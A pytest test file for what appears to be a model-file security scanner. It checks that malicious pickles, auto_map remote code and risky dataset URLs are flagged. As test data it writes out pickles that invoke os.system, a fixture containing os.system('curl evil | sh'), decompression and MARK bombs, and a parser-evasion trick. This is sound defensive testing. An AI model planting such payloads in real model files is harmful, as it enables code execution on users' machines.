"""Security scan on the corpus of published attacks, on real benign models, and on hostile input."""

from __future__ import annotations

import csv
import hashlib
import json
import pickle
from pathlib import Path

import pytest
from conftest import REAL, SHARED

from aitrail.analyze import security as S
from aitrail.cli import main

CORPUS = SHARED / "data" / "security-corpus"
ROWS = list(csv.DictReader(open(CORPUS / "manifest.csv", encoding="utf-8")))


def worst(rep: S.FileReport) -> str | None:
    return max((f.severity for f in rep.findings), key=S.SEVERITIES.index, default=None)


@pytest.mark.parametrize("row", ROWS, ids=lambda r: r["file"])
def test_corpus(row):
    rep = S.scan_file(CORPUS / "files" / row["file"], row["file"])
    if row["malicious"] == "1":
        assert worst(rep) in ("high", "critical"), (row["technique"], [f.rule for f in rep.findings])
    else:
        assert worst(rep) not in ("high", "critical"), [f.message for f in rep.findings]


def test_real_benign_models_raise_nothing_high():
    report = S.scan(REAL)
    assert report["max_severity"] not in ("high", "critical")
    assert len(report["files"]) >= 20


def test_report_contract_ties_verdicts_to_content(capsys):
    assert main(["security", str(CORPUS / "files" / "m01_os_system_global_reduce_p0.pkl"), "--format", "json"]) == 1
    rep = json.loads(capsys.readouterr().out)
    assert set(rep) == {"rules_version", "files", "max_severity"} and rep["max_severity"] == "critical"
    [f] = rep["files"]
    data = (CORPUS / "files" / "m01_os_system_global_reduce_p0.pkl").read_bytes()
    assert f["sha256"] == hashlib.sha256(data).hexdigest() and f["format"] == "pickle"
    x = f["findings"][0]
    assert set(x) == {"severity", "rule", "message", "location", "evidence"} and "os.system" in x["message"]
    assert x["evidence"]["how"] == "called" and x["evidence"]["global"] == "os.system"


def test_fail_on_and_exit_codes(tmp_path, capsys):
    benign = tmp_path / "ok.pkl"
    benign.write_bytes(pickle.dumps({"a": [1, 2.0, "x"]}))
    assert main(["security", str(benign)]) == 0
    evil = CORPUS / "files" / "x08_asyncio_submodule.pkl"
    assert main(["security", str(evil)]) == 1
    assert main(["security", str(evil), "--fail-on", "never"]) == 0
    assert main(["security", str(tmp_path / "missing")]) == 2
    capsys.readouterr()


def test_unknown_globals_are_tunable(tmp_path):
    # unknown.thing called (REDUCE): code aitrail does not know runs with the pickle's arguments
    p = tmp_path / "u.pkl"
    p.write_bytes(b"\x80\x04\x8c\x07unknown\x94\x8c\x05thing\x94\x93\x94)R\x94.")
    assert worst(S.scan_file(p, "u.pkl")) == "high"
    assert worst(S.scan_file(p, "u.pkl", unknown_severity="low")) == "low"
    # unknown.Thing only rebuilt (NEWOBJ): a user class, medium whatever --unknown-severity says
    p.write_bytes(b"\x80\x04\x8c\x07unknown\x94\x8c\x05Thing\x94\x93\x94)\x81\x94.")
    rep = S.scan_file(p, "u.pkl")
    assert worst(rep) == "medium" and rep.findings[0].rule == "pickle.user-class"
    ev = rep.findings[0].evidence
    assert ev is not None and ev["how"] == "reconstructed" and ev["global"] == "unknown.Thing"


def test_sarif_output(capsys):
    assert main(["security", str(CORPUS / "files"), "--format", "sarif", "--fail-on", "never"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["version"] == "2.1.0"
    from sarif_pydantic import Sarif  # the SARIF 2.1.0 object model, offline

    assert len(Sarif.model_validate(doc).runs[0].results) == len(doc["runs"][0]["results"]) > 30
    run = doc["runs"][0]
    assert run["tool"]["driver"]["name"] == "aitrail"
    ids = {r["id"] for r in run["tool"]["driver"]["rules"]}
    assert any(res["properties"].get("how") == "called" and res["properties"].get("why") for res in run["results"])
    for res in run["results"]:
        assert res["ruleId"] in ids and res["level"] in ("error", "warning", "note")
        assert res["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]


@pytest.mark.parametrize(
    "blob",
    [
        b"\x80\x04" + b"(" * 200_000 + b".",  # a deep MARK bomb
        b"\x80\x04]" + b"\x94" * 5 + b"h\x00" * 100_000 + b".",  # memo fan-out
        b"\x80\x04\x8c\x02os\x8c\x06sys",  # truncated mid-pickle
        b"\x80\x05\x95\xff\xff\xff\xff\xff\xff\xff\x7f",  # a FRAME claiming 9 EB
    ],
)
def test_hostile_pickles_end_in_a_verdict(tmp_path, blob):
    p = tmp_path / "h.pkl"
    p.write_bytes(blob)
    rep = S.scan_file(p, "h.pkl")
    assert rep.sha256 and isinstance(rep.findings, list)


def test_dataset_url_lists_and_declared_urls(tmp_path, capsys):
    (tmp_path / "urls.txt").write_text(
        "https://images.example.org/a.jpg\nhttp://cdn.expired-photos.net/b.jpg\nhttps://203.0.113.9/c.jpg\n"
        "https://images.example.org/d.jpg\n"
    )
    (tmp_path / "with_digests.csv").write_text(
        "url,sha256\nhttps://images.example.org/a.jpg,ab12\nhttps://images.example.org/b.jpg,cd34\n"
    )
    (tmp_path / "aitrail.yaml").write_text("datasets:\n  - {name: d, url: 'http://data.example.com/d.tar'}\n")
    (tmp_path / "expired.txt").write_text("# re-registered domains\nexpired-photos.net\n")
    report = S.scan(tmp_path, policy=S.DatasetPolicy(frozenset({"expired-photos.net"})))
    by = {f["path"]: {x["rule"]: x for x in f["findings"]} for f in report["files"]}
    urls = by["urls.txt"]
    assert {
        "dataset.plain-http",
        "dataset.ip-host",
        "dataset.expired-domain",
        "dataset.url-list-without-digests",
    } <= set(urls)
    assert urls["dataset.expired-domain"]["severity"] == "high"
    assert urls["dataset.expired-domain"]["location"] == "urls.txt:2"
    assert "dataset.url-list-without-digests" not in by["with_digests.csv"]
    assert "dataset.plain-http" in by["aitrail.yaml"]
    # the same from the command line, offline by default
    assert (
        main(["security", str(tmp_path), "--expired-domains", str(tmp_path / "expired.txt"), "--format", "json"]) == 1
    )
    capsys.readouterr()


def test_online_check_is_explicit_and_injectable(tmp_path):
    (tmp_path / "urls.txt").write_text("https://gone.example/a.jpg\nhttps://fine.example/b.jpg\n")
    asked = []
    policy = S.DatasetPolicy(resolve=lambda h: asked.append(h) or h != "gone.example")
    rep = S.scan_file(tmp_path / "urls.txt", "urls.txt", policy=policy)
    assert sorted(asked) == ["fine.example", "gone.example"]
    assert [f.rule for f in rep.findings if f.rule == "dataset.unresolvable-domain"] == ["dataset.unresolvable-domain"]
    assert not any(f.rule == "dataset.unresolvable-domain" for f in S.scan_file(tmp_path / "urls.txt", "u").findings)


def test_remote_code_named_by_auto_map_is_reviewed(tmp_path):
    (tmp_path / "config.json").write_text(
        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}})
    )
    (tmp_path / "modeling_x.py").write_text(
        "import os, torch\n\nclass XModel:\n    def __init__(self):\n        os.system('curl evil | sh')\n"
    )
    (tmp_path / "unrelated.py").write_text("import os\nos.system('ls')\n")
    report = S.scan(tmp_path)
    by = {f["path"]: [x["rule"] for x in f["findings"]] for f in report["files"]}
    assert "remote-code.risky-call" in by["modeling_x.py"] and "remote-code.present" in by["modeling_x.py"]
    assert by["unrelated.py"] == []  # only code that loading the model would run
    call = next(x for f in report["files"] for x in f["findings"] if x["rule"] == "remote-code.risky-call")
    assert "os.system" in call["message"] and call["location"] == "modeling_x.py:5"


def test_security_findings_reach_the_inventory_and_the_bom(tmp_path):
    import shutil

    import aitrail
    from aitrail.export import cyclonedx

    shutil.copy(CORPUS / "files" / "m09_torch_zip_payload.pt", tmp_path / "pytorch_model.bin")
    inv = aitrail.scan(tmp_path)
    assert any(f.rule == "security.pickle.dangerous-global" and f.severity == "critical" for f in inv.findings)
    doc = json.loads(cyclonedx.dumps(inv))
    props = {p["name"]: p["value"] for c in doc["metadata"]["component"]["components"] for p in c["properties"]}
    assert props["aitrail:security_max_severity"] == "critical"


def test_a_gigabyte_argument_is_skipped_not_read_and_what_follows_is_judged(tmp_path):
    """BINBYTES8 declaring 1 GiB (a sparse file), then os.system: flagged, in bounded memory."""
    import struct
    import subprocess
    import sys

    p = tmp_path / "big.pkl"
    n = 1 << 30
    with open(p, "wb") as f:
        f.write(b"\x80\x04\x8e" + struct.pack("<Q", n))
        f.seek(n, 1)
        f.write(b"0cposix\nsystem\n(S'echo hi'\ntR.")  # POP the bytes, then the classic payload
    code = (
        "import sys; from aitrail.analyze import security as S; from pathlib import Path\n"
        "r = S.scan_file(Path(sys.argv[1]), 'big.pkl', hash_file=False)\n"
        "print(max((f.severity for f in r.findings), key=S.SEVERITIES.index),"
        " [int(x.split()[1]) for x in open('/proc/self/status') if x.startswith('VmHWM')][0])\n"
    )  # VmHWM, not ru_maxrss: ru_maxrss survives exec and would report pytest's own peak
    out = subprocess.run([sys.executable, "-c", code, str(p)], capture_output=True, text=True, check=True).stdout
    severity, rss_kb = out.split()
    assert severity == "critical"
    assert int(rss_kb) < 256_000, f"peak RSS {int(rss_kb) // 1024} MB"


def test_hex_integer_before_a_legacy_torch_pickle_does_not_hide_the_payload(tmp_path):
    """Loader/parser differential: the C unpickler accepts "I0x..." (strtol base 0), pickletools does not.
    A scanner that gives up at the hex integer never sees the pickles that follow."""
    p = tmp_path / "model.pt"
    p.write_bytes(b"I0x1950a86a20f9469cfc6c\n." + b"I1001\n." + b"cposix\nsystem\n(S'echo hi'\ntR.")
    rep = S.scan_file(p, "model.pt")
    assert worst(rep) == "critical" and any("posix.system" in f.message for f in rep.findings)


def test_a_frame_does_not_hide_the_global_inside_it(tmp_path):
    import struct

    body = b"\x8c\x05posix\x8c\x06system\x93\x8c\x07echo hi\x85R."
    p = tmp_path / "f.pkl"
    p.write_bytes(b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body)
    assert worst(S.scan_file(p, "f.pkl")) == "critical"


@pytest.mark.parametrize("proto", range(6))
def test_data_only_fast_path_never_skips_a_global(tmp_path, proto):
    """The fast path answers only for pickles with data opcodes; anything that imports falls back."""
    from collections import OrderedDict

    from aitrail.catalog import pickles as P

    plain = pickle.dumps({"tokens": ["a", "b"] * 50, "ids": list(range(300)), "f": 1.5}, protocol=proto)
    rich = pickle.dumps(OrderedDict(a=1), protocol=proto)
    assert P.data_only(rich) is None
    end = P.data_only(plain)
    assert end is None or end == len(plain)
    (tmp_path / "two.pkl").write_bytes(plain + rich)  # a data pickle, then one that imports
    rep = S.scan_file(tmp_path / "two.pkl", "two.pkl")
    assert not rep.findings  # OrderedDict is allowed, and it was seen: the fast path did not stop early
    (tmp_path / "evil.pkl").write_bytes(
        plain + (CORPUS / "files" / "m02_posix_system_stack_global_p4.pkl").read_bytes()
    )
    assert worst(S.scan_file(tmp_path / "evil.pkl", "evil.pkl")) == "critical"


def test_no_digest_is_explicit(capsys):
    f = CORPUS / "files" / "x01_pip_main.pkl"
    assert main(["security", str(f), "--format", "json", "--no-digest"]) == 1
    doc = json.loads(capsys.readouterr().out)
    assert doc["files"][0]["sha256"] is None and doc["max_severity"] == "critical"
    assert main(["security", str(f), "--no-digest"]) == 1
    assert "digests skipped" in capsys.readouterr().out


def test_a_pickle_the_walker_cannot_read_past_fails_closed(tmp_path):
    # An opcode aitrail does not know, then a dangerous call: whatever a lenient loader makes of the
    # byte, the verdict must not be "medium, malformed".
    p = tmp_path / "odd.pkl"
    p.write_bytes(b"\x80\x02\xff" + b"cos\nsystem\n(S'id'\ntR.")
    rep = S.scan_file(p, "odd.pkl")
    assert worst(rep) == "high" and any(f.rule == "pickle.malformed" for f in rep.findings)


def test_the_rules_json_is_generated_from_the_yaml():
    """security.yaml is what people edit; scripts/gen_security_rules.py writes the JSON aitrail reads."""
    import yaml

    from aitrail.analyze.security.report import rules

    knowledge = Path(S.__file__).resolve().parents[2] / "knowledge"
    source = yaml.safe_load((knowledge / "security.yaml").read_text())
    assert rules() == source, "run: .venv/bin/python scripts/gen_security_rules.py"


def _short(s: str) -> bytes:
    return b"\x8c" + bytes([len(s)]) + s.encode()


def test_folded_stacks_keep_names_and_pops_aligned(tmp_path):
    """Half a million pushes fold into counters; the names below them still resolve exactly."""
    n = 500_000
    body = _short("os") + _short("system") + b"K\x01" * n + b"0" * n + b"\x93" + _short("id") + b"\x85R."
    p = tmp_path / "fold.pkl"
    p.write_bytes(b"\x80\x04" + body)
    rep = S.scan_file(p, "fold.pkl", hash_file=False)
    assert any(f.rule == "pickle.dangerous-global" and "os.system" in f.message for f in rep.findings)
    # the counts matter: one pop too few or too many and the names would be wrong
    body = _short("os") + _short("system") + _short("builtins") + _short("dir") + b"K\x01" * n + b"0" * n
    p.write_bytes(b"\x80\x04" + body + b"\x93" + b"0" + b"\x93" + _short("id") + b"\x85R.")
    rep = S.scan_file(p, "fold.pkl", hash_file=False)
    assert any("builtins.dir" in f.message for f in rep.findings)
    assert any("os.system" in f.message and f.severity == "critical" for f in rep.findings)


def test_a_pickle_past_the_opcode_limit_is_a_limit_finding(tmp_path, monkeypatch):
    from aitrail.catalog import pickles

    monkeypatch.setattr(pickles, "MAX_OPS", 10_000)
    p = tmp_path / "long.pkl"
    p.write_bytes(b"\x80\x04" + _short("collections") + _short("OrderedDict") + b"\x93" + b"K\x01" * 20_000 + b".")
    rep = S.scan_file(p, "long.pkl", hash_file=False)
    assert [f.rule for f in rep.findings if f.severity == "high"] == ["pickle.limit-exceeded"]


def test_process_pool_gives_the_same_reports_as_threads(monkeypatch):
    """Large pickle walks go to worker processes (the walk holds the GIL); the verdicts must not change."""
    monkeypatch.setattr(S, "PROCESS_MIN_BYTES", 1 << 60)
    threads = S.scan(CORPUS / "files")
    monkeypatch.setattr(S, "PROCESS_MIN_BYTES", 0)
    assert S._walked_bytes(sorted((CORPUS / "files").glob("*.pkl"))) > 0
    processes = S.scan(CORPUS / "files")
    assert processes == threads


def test_a_pickle_past_the_time_limit_is_a_limit_finding(tmp_path, monkeypatch):
    from aitrail.catalog import pickles

    monkeypatch.setattr(pickles, "MAX_SECONDS", 0.0)
    p = tmp_path / "slow.pkl"
    p.write_bytes(b"\x80\x04" + _short("collections") + _short("OrderedDict") + b"\x93" + b"K\x01" * (1 << 21) + b".")
    rep = S.scan_file(p, "slow.pkl", hash_file=False)
    assert any(f.rule == "pickle.limit-exceeded" and "s)" in f.message for f in rep.findings)


def test_compressed_joblib_under_its_own_name_is_no_format_mismatch(tmp_path):
    """joblib.dump(..., "m.joblib", compress=...) writes a compressed pickle under .joblib: that name
    promises it, and a pickle it stays (the completeness check counts it as pickle weights)."""
    import joblib
    import numpy as np

    from aitrail import scan
    from aitrail.analyze.completeness import PICKLE_FORMATS

    for codec in ("zlib", "gzip", "bz2", "xz", "lz4"):
        joblib.dump({"w": np.arange(8.0)}, tmp_path / f"m_{codec}.joblib", compress=(codec, 3))
    inv = scan(tmp_path)
    assert not [f for f in inv.findings if f.rule == "scan.format-mismatch"]
    formats = {c.format for c in inv.components if c.format and c.format.startswith("joblib")}
    assert formats and formats <= PICKLE_FORMATS


def test_cloudpickle_builtin_type_is_followed_as_the_types_attribute(tmp_path):
    """cloudpickle's _builtin_type("MethodType") only binds a method (fastai's export.pkl does it):
    judged as types.MethodType, data; _builtin_type("CodeType") builds code from the file: critical."""
    import pickle

    from cloudpickle import cloudpickle as cp

    class Ref:  # pickled by the real pickler as cloudpickle's own reducers write it
        def __init__(self, name: str) -> None:
            self.name = name

        def __reduce__(self):  # type: ignore[no-untyped-def]
            return (cp._builtin_type, (self.name,))

    for name, expected in (("MethodType", None), ("CodeType", "critical")):
        p = tmp_path / f"{name}.pkl"
        p.write_bytes(pickle.dumps(Ref(name), protocol=4))
        rep = S.scan_file(p, p.name)
        assert worst(rep) == expected, (name, [f.message for f in rep.findings])


def test_payloads_in_bytes_values_are_walked_and_bounded(tmp_path):
    """A pickle carried in a bytes value (what torch.storage._load_from_bytes or a __setstate__ would
    unpickle) is walked and judged; a zip bomb carried the same way is a limit finding, not a hang."""
    import io
    import pickle
    import zipfile

    inner = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
    p = tmp_path / "carrier.pkl"
    p.write_bytes(pickle.dumps({"state": inner}, protocol=4))
    rep = S.scan_file(p, p.name)
    assert worst(rep) == "critical" and any("inside one of its bytes values" in f.message for f in rep.findings)
    # a torch.save-shaped zip in a bytes value whose data.pkl inflates ~1,000:1
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", b"\x80\x04" + b"N0" * (8 << 20) + b"N.")
    p.write_bytes(pickle.dumps({"state": buf.getvalue()}, protocol=4))
    rep = S.scan_file(p, p.name)
    assert any(f.rule == "pickle.nested-not-walked" and f.severity == "high" for f in rep.findings), [
        (f.rule, f.message) for f in rep.findings
    ]


def test_calling_a_partial_calls_what_it_wraps_in_lean_and_value_walks():
    """functools.partial(usermod.fn) called by the pickle calls usermod.fn: the same use recorded whether
    the walk keeps values (joblib files) or not."""
    import io

    from aitrail.catalog import pickles

    data = (
        b"\x80\x04\x8c\tfunctools\x94\x8c\x07partial\x94\x93\x94\x8c\x07usermod\x94\x8c\x02fn\x94\x93\x94"
        b"\x85\x94R\x94)R\x94."
    )
    for lean in (True, False):
        s = pickles.walk(io.BytesIO(data), lean=lean)
        assert ("usermod.fn", "called", ()) in s.uses, lean
